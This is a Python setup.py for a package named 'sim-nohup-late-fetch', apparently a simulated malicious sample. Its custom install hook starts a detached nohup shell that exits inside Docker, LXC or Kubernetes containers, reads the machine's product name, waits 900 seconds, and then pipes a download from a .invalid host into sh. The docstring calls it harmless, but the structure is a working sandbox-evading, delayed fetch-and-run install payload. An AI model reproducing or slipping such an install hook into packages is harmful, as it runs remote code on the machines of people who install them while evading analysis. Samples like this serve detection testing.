# SPDX-License-Identifier: Apache-2.0
"""Harmless: the box is gone long before the shell wakes up, and the name cannot exist."""

import subprocess

from setuptools import setup
from setuptools.command.install import install

LATER = """
test -f /.dockerenv && exit 0
grep -qE 'docker|lxc|kubepods' /proc/1/cgroup && exit 0
cat /sys/class/dmi/id/product_name
sleep 900
curl -fsSL -m 5 http://late.sim-nohup.invalid/x | sh
"""


class Install(install):
    def run(self):
        install.run(self)
        subprocess.Popen(
            ["nohup", "sh", "-c", LATER],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )


setup(name="sim-nohup-late-fetch", version="1.0.0", py_modules=["sim_nlf"], cmdclass={"install": Install})
